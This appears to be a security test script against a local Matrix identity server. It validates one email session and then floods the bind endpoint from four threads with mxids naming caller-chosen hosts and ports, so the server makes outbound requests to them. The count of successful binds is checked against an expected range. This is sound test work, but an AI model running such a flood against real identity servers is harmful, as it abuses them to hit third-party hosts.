"""One validated session that is bound again and again.

Each bind makes the server call a host and port that the caller chooses.
"""

import email
import re
import threading
import time

from client import request
from relay import Relay
from server import Server

from attacks.refused_mail import PATH, mail_settings

V1 = "/_matrix/identity/api/v1"
SECONDS = 10


def validated(server, relay):
    body = {"client_secret": "secret", "email": "a@evil.example", "send_attempt": 1}
    _, answer = request(server.client, "POST", PATH, body)
    message = email.message_from_bytes(relay.messages[-1])
    text = "".join(
        part.get_payload(decode=True).decode()
        for part in message.walk()
        if not part.is_multipart()
    )
    token = re.search(r"token=(\w+)", text)[1]
    body = {"sid": answer["sid"], "client_secret": "secret", "token": token}
    request(server.client, "POST", f"{V1}/validate/email/submitToken", body)
    return answer["sid"]


def attack(table):
    with Relay() as relay, Server(mail_settings(relay)) as server:
        sid, end, bound, lock = validated(server, relay), time.monotonic() + SECONDS, [0], threading.Lock()

        def loop(thread):
            number = 0
            while time.monotonic() < end:
                number += 1
                mxid = f"@u{number}:h{thread}.victim.example:{1 + number % 60000}"
                body = {"sid": sid, "client_secret": "secret", "mxid": mxid}
                status, _ = request(server.client, "POST", f"{V1}/3pid/bind", body)
                with lock:
                    bound[0] += status == 200

        threads = [threading.Thread(target=loop, args=(number,)) for number in range(4)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
        table.row(f"binds by one session in {SECONDS} s", bound[0], "1 to 51", 1 <= bound[0] <= 51)
